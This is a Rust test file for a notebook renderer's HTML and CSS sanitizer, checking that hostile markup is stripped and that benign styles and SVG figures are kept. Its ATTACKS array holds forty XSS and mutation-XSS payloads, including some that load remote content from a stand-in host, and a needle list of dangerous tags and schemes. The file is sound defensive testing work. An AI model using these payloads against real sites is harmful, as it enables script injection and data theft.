//! What a hostile notebook may not do, and what a friendly one keeps.

use serde_json::Value;

use super::{code, contains, md, page, shown};
use crate::book::{clean, css};

/// Attacks on every way in; none may leave a script, a handler, an active element or a request behind.
const ATTACKS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "<img src=\"//evil.example/pixel.png\">",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\" onclick=\"alert(1)\">x</a>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=\"https://evil.example/x.js\" /></svg>",
    "<svg><foreignObject><body onload=alert(1)><iframe src=x></iframe></foreignObject></svg>",
    "<svg><use href=\"https://evil.example/a.svg#x\"/><image href=\"https://evil.example/a.png\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=\"javascript:alert(1)\" /><set attributeName=onload to=alert(1) /></svg>",
    "<svg><rect fill=\"url(https://evil.example/a.svg#p)\" style=\"fill:url(//evil.example/a)\"/></svg>",
    "<svg><style>@import url(https://evil.example/a.css);</style></svg>",
    "<svg><style>rect{fill:url('https://evil.example/a')}</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<style>*{background:\\75rl(https://evil.example/a)}</style>",
    "<style>a{}</style\n><script>alert(1)</script>",
    "<style>}body{background:image-set(\"https://evil.example/a\" 1x)}</style>",
    "<p style=\"background-image:url(https://evil.example/a)\">x</p>",
    "<p style=\"background:url(https://evil.example/a);position:fixed;inset:0\">x</p>",
    "<p style=\"--x:url(//evil.example/a);color:expression(alert(1))\">x</p>",
    "<iframe src=\"https://evil.example\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example\"><input name=a><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title></textarea></title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math><math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<object data=\"https://evil.example/a\"></object><embed src=\"https://evil.example/a\">",
    "<link rel=stylesheet href=\"https://evil.example/a.css\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=\"https://evil.example/\">",
    "<video src=\"https://evil.example/a\" poster=\"https://evil.example/b\"></video><body background=\"https://evil.example/c\">",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
];

/// What a browser would find in the page, told by a parser and not by a search for words.
fn assert_harmless(html: &str, from: &str) {
    let unchanged = clean::output(html, "x").replace("x-", "");
    for needle in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<link",
        "<meta",
        "<base",
        "<image",
        "<foreign",
        "<set",
        "<animate",
        "<video",
        "<textarea",
        "<noscript",
        "javascript:",
        "evil.example\"",
        "evil.example/",
    ] {
        let found = html.to_lowercase().match_indices(needle).count();
        assert_eq!(found, 0, "{needle} of\n{from}\nis in\n{html}");
    }
    assert!(!is_handled(html), "a handler of\n{from}\nis in\n{html}");
    assert!(!is_handled(&unchanged), "parsed again:\n{unchanged}");
}

/// Whether an element has an attribute `on…`; text and attribute values may say so.
fn is_handled(html: &str) -> bool {
    html.split('<').skip(1).any(|tag| {
        let mut quoted = tag.split('"');
        let mut names = String::new();
        while let Some(name) = quoted.next() {
            names.push_str(name);
            let is_closed = name.contains('>');
            if is_closed || quoted.next().is_none() {
                break;
            }
        }
        names.split('>').next().is_some_and(|names| names.split_whitespace().any(|name| name.starts_with("on")))
    })
}

#[test]
fn no_attack_survives_in_an_output_or_in_markdown() {
    assert!(is_handled("<img src=\"x\" onerror=\"y\">") && !is_handled("<p title=\" onx=\">a onb=c</p>"));
    for attack in ATTACKS {
        assert_harmless(&clean::output(attack, "_out-1-1"), attack);
        let body = page(&[md(&format!("Text {attack}\n\nmore\n\n{attack}\n\nend"))].map(without_missing));
        let main = body.split("<main").nth(1).unwrap().split("</main>").next().unwrap();
        assert_harmless(main, attack);
    }
}

/// A relative image that is missing is a fault of its own; here it is not the point.
fn without_missing(cell: Value) -> Value {
    let text = cell["source"].as_str().unwrap_or_default().replace("src=x onerror", "src=data: onerror");
    md(&text)
}

#[test]
fn an_output_keeps_its_table_styles_figure_and_style_sheet() {
    let html = r##"<style>.a:hover > b{color:red} @media (prefers-color-scheme: dark){.a{color:blue}} #t{fill:url(#g)} :root{--x:1px} #t [fill="#abc"] #u{fill:#abc}</style>
        <div class="mln-table" style="color: red; position: fixed; --t: 0.5; width:50%"><table><tr><td colspan="2">1</td></tr></table>
        <svg viewBox="0 0 1 1" aria-labelledby="t"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
        <rect id="t" clip-path="url(#c)" fill="url(#g)"/><use href="#t"/></svg></div>"##;
    let clean = clean::output(html, "o");
    contains(
        &clean,
        &[
            "<style>#o {.a:hover > b{color:red}",
            "@media (prefers-color-scheme: dark){.a{color:blue}}",
            "#o-t{fill:url(#o-g)}",
            r##"&{--x:1px} #o-t [fill="#abc"] #o-u{fill:#abc}}</style>"##,
            r#"<div class="mln-table" style="color: red; --t: 0.5; width: 50%">"#,
            r#"<td colspan="2">"#,
            r#"viewBox="0 0 1 1""#,
            r#"aria-labelledby="o-t""#,
            r#"<linearGradient id="o-g">"#,
            r#"clip-path="url(#o-c)""#,
            r##"<use href="#o-t">"##,
        ],
    );
}

#[test]
fn a_style_sheet_that_could_reach_out_goes_as_a_whole() {
    for bad in [
        "a{b:url(x)}",
        "@import 'x';",
        "@font-face{src:url(#a)}",
        "a{content:\"}\"}",
        "a{",
        "}",
        "a{b:c}/*",
        "a{b:u\\72l(x)}",
    ] {
        assert_eq!(css::sheets(&format!("<style>{bad}</style>"), "o", "o-"), "", "{bad}");
    }
    assert_eq!(css::sheets("<style>a{b:c}</style>", "o", "o-"), "<style>#o {a{b:c}}</style>");
    assert_eq!(
        css::sheets("<STYLE type='x'><![CDATA[a&gt;b{c:d}]]></STYLE><style>e{f:g}", "o", "o-"),
        "<style>#o {a>b{c:d}}</style>"
    );
}

#[test]
fn two_figures_with_equal_ids_do_not_meet() {
    let svg = r##"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 5"><style>.g{fill:red}</style><g id="a" class="g"/><use xlink:href="#a"/></svg>"##;
    let page = page(&[md("# A"), code("plot", shown("image/svg+xml", svg)), code("plot", shown("text/html", svg))]);
    contains(
        &page,
        &[
            r#"id="_out-2-1"><style>#_out-2-1 {"#,
            r#"<g id="_out-2-1-a" class="g">"#,
            r##"href="#_out-2-1-a""##,
            r#"id="_out-3-1"><style>#_out-3-1 {"#,
            r#"<g id="_out-3-1-a" class="g">"#,
        ],
    );
}
